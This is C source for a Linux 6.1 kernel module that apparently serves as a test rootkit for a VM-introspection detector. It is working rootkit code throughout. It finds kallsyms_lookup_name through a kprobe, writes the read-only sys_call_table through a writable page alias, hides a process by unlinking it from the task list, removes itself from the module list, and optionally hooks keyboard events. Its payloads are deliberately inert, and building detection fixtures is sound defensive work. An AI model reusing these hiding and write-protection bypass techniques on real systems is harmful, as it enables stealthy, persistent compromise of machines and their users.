// SPDX-License-Identifier: GPL-2.0
/*
 * vmi_rootkit: vmsight's OWN test rootkit for the 6.1 lab guest. It does the
 * three classic things an introspection tool must catch, and nothing else:
 *
 *  1. hides one process (found by comm, parameter hide_comm) from the task
 *     list: its group leader's `tasks` entry is unlinked, while the task stays
 *     in the pid IDR/hash (so /proc/<pid> and `ps` in the guest still show
 *     it; psxview sees "in pid IDR, not in task list");
 *  2. hooks one sys_call_table entry (parameter hook_nr, default __NR_kill)
 *     with a pass-through wrapper living in this module's text (check_syscall
 *     sees an entry outside core kernel text, owned by vmi_rootkit);
 *  3. unlinks itself from the `modules` list but keeps its sysfs kobject
 *     (/sys/module/vmi_rootkit stays; hidden_modules sees the discrepancy);
 *  4. only with keylog=1: registers a keyboard notifier (the keylogger's
 *     hook; keyboard_notifiers sees a callback in this module). It counts
 *     key events and records nothing.
 *
 * How the read-only sys_call_table is written (6.1): kallsyms_lookup_name is
 * not exported since 5.7, so its address is taken from a kprobe registered on
 * it (the kprobe core resolves symbol names). The table lives in .rodata; we
 * do NOT toggle CR0.WP (6.1 pins CR0.WP: native_write_cr0 sets it back and
 * warns) and set_memory_rw is not exported. Instead the physical page behind
 * the entry (slow_virt_to_phys) is mapped a second time with vmap(PAGE_KERNEL)
 * — a private writable alias — written once, and unmapped. Nothing else of the
 * kernel's mappings changes.
 *
 * Note: Debian's 6.1.192 dispatches x86-64 syscalls through x64_sys_call (a
 * switch, backported BHI hardening), so the hooked table entry is not used for
 * dispatch; the wrapper still forwards correctly if anything calls it. That is
 * fine: the test is about detecting the modified table.
 *
 * The module cannot be removed once unlinked (rmmod looks modules up in the
 * list); with unlink=0 it can, and its exit restores the entry.
 */
#include <linux/kernel.h>
#include <linux/module.h>
#include <linux/kprobes.h>
#include <linux/sched.h>
#include <linux/sched/signal.h>
#include <linux/sched/task.h>
#include <linux/rcupdate.h>
#include <linux/string.h>
#include <linux/vmalloc.h>
#include <linux/mm.h>
#include <linux/mutex.h>
#include <linux/atomic.h>
#include <linux/keyboard.h>
#include <linux/notifier.h>
#include <asm/unistd.h>
#include <asm/set_memory.h>
#include <asm/pgtable_types.h>
#include <asm/ptrace.h>

static char *hide_comm = "vmi-user";
module_param(hide_comm, charp, 0444);
MODULE_PARM_DESC(hide_comm, "comm of the process to hide from the task list (empty: none)");

static int hook_nr = __NR_kill;
module_param(hook_nr, int, 0444);
MODULE_PARM_DESC(hook_nr, "sys_call_table index to hook (-1: none)");

static bool do_unlink = true;
module_param_named(unlink, do_unlink, bool, 0444);
MODULE_PARM_DESC(unlink, "unlink this module from the modules list");

static bool keylog;
module_param(keylog, bool, 0444);
MODULE_PARM_DESC(keylog, "register a keyboard notifier (counts key events, records nothing)");

static atomic_t key_events = ATOMIC_INIT(0);

static int vmi_keylog_notify(struct notifier_block *nb, unsigned long action, void *data)
{
	atomic_inc(&key_events);
	return NOTIFY_OK;
}

static struct notifier_block vmi_keylog_nb = { .notifier_call = vmi_keylog_notify };

typedef unsigned long (*lookup_name_t)(const char *name);
typedef long (*syscall_fn_t)(const struct pt_regs *regs);

static lookup_name_t lookup_name;
static unsigned long *syscall_table;
static syscall_fn_t original_entry;
static atomic_t hook_calls = ATOMIC_INIT(0);

/* kallsyms_lookup_name's address, from a kprobe the kprobe core resolved by name. */
static lookup_name_t find_lookup_name(void)
{
	struct kprobe kp = { .symbol_name = "kallsyms_lookup_name" };
	lookup_name_t fn;

	if (register_kprobe(&kp) < 0)
		return NULL;
	fn = (lookup_name_t)kp.addr;
	unregister_kprobe(&kp);
	return fn;
}

/* Writes one word of read-only kernel data through a temporary writable alias mapping. */
static int write_readonly_word(unsigned long *where, unsigned long value)
{
	phys_addr_t pa = slow_virt_to_phys(where);
	struct page *page = pfn_to_page(pa >> PAGE_SHIFT);
	void *alias = vmap(&page, 1, VM_MAP, PAGE_KERNEL);

	if (!alias)
		return -ENOMEM;
	WRITE_ONCE(*(unsigned long *)((char *)alias + offset_in_page(pa)), value);
	vunmap(alias);
	return 0;
}

static long hooked_entry(const struct pt_regs *regs)
{
	atomic_inc(&hook_calls);
	return original_entry(regs);
}

static int hook_syscall(void)
{
	int err;

	if (hook_nr < 0)
		return 0;
	if (hook_nr >= __NR_syscalls)
		return -EINVAL;
	syscall_table = (unsigned long *)lookup_name("sys_call_table");
	if (!syscall_table)
		return -ENOENT;
	original_entry = (syscall_fn_t)READ_ONCE(syscall_table[hook_nr]);
	err = write_readonly_word(&syscall_table[hook_nr], (unsigned long)hooked_entry);
	if (err)
		return err;
	pr_info("vmi_rootkit: sys_call_table[%d] %px -> %px\n", hook_nr, original_entry, hooked_entry);
	return 0;
}

static void unhook_syscall(void)
{
	if (syscall_table && original_entry)
		write_readonly_word(&syscall_table[hook_nr], (unsigned long)original_entry);
}

/* Unlinks the thread-group leader whose comm is hide_comm from the tasks list. */
static int hide_process(void)
{
	rwlock_t *tasklist = (rwlock_t *)lookup_name("tasklist_lock");
	struct task_struct *p, *victim = NULL;

	if (!hide_comm || !hide_comm[0])
		return 0;
	if (!tasklist)
		return -ENOENT;
	rcu_read_lock();
	for_each_process(p) {
		if (strncmp(p->comm, hide_comm, TASK_COMM_LEN) == 0) {
			victim = p;
			get_task_struct(victim);
			break;
		}
	}
	rcu_read_unlock();
	if (!victim)
		return -ESRCH;
	write_lock_irq(tasklist);
	list_del_rcu(&victim->tasks);
	write_unlock_irq(tasklist);
	/* No RCU reader can still stand on the node: make it point to itself (list_del_init). */
	synchronize_rcu();
	INIT_LIST_HEAD(&victim->tasks);
	pr_info("vmi_rootkit: hid pid %d (%s)\n", task_pid_nr(victim), victim->comm);
	/* The reference is kept on purpose: the hidden task_struct must never be freed under us. */
	return 0;
}

static int unlink_self(void)
{
	struct mutex *module_lock = (struct mutex *)lookup_name("module_mutex");

	if (!do_unlink)
		return 0;
	if (!module_lock)
		return -ENOENT;
	mutex_lock(module_lock);
	list_del_rcu(&THIS_MODULE->list);
	mutex_unlock(module_lock);
	synchronize_rcu();
	INIT_LIST_HEAD(&THIS_MODULE->list);
	pr_info("vmi_rootkit: unlinked from the module list\n");
	return 0;
}

static int __init vmi_rootkit_init(void)
{
	int err;

	lookup_name = find_lookup_name();
	if (!lookup_name) {
		pr_err("vmi_rootkit: kallsyms_lookup_name not found through kprobes\n");
		return -ENOENT;
	}
	err = hook_syscall();
	if (err) {
		pr_err("vmi_rootkit: hooking syscall %d failed: %d\n", hook_nr, err);
		return err;
	}
	err = hide_process();
	if (err)
		pr_warn("vmi_rootkit: hiding '%s' failed: %d\n", hide_comm, err);
	if (keylog) {
		err = register_keyboard_notifier(&vmi_keylog_nb);
		if (err)
			pr_warn("vmi_rootkit: keyboard notifier failed: %d\n", err);
		else
			pr_info("vmi_rootkit: keyboard notifier registered\n");
		keylog = !err;
	}
	err = unlink_self();
	if (err)
		pr_warn("vmi_rootkit: unlinking failed: %d\n", err);
	return 0;
}

static void __exit vmi_rootkit_exit(void)
{
	if (keylog)
		unregister_keyboard_notifier(&vmi_keylog_nb);
	unhook_syscall();
	pr_info("vmi_rootkit: unloaded after %d hooked calls\n", atomic_read(&hook_calls));
}

module_init(vmi_rootkit_init);
module_exit(vmi_rootkit_exit);
MODULE_LICENSE("GPL");
MODULE_AUTHOR("vmsight lab");
MODULE_DESCRIPTION("vmsight test rootkit: hides a process, hooks a syscall, unlinks itself");
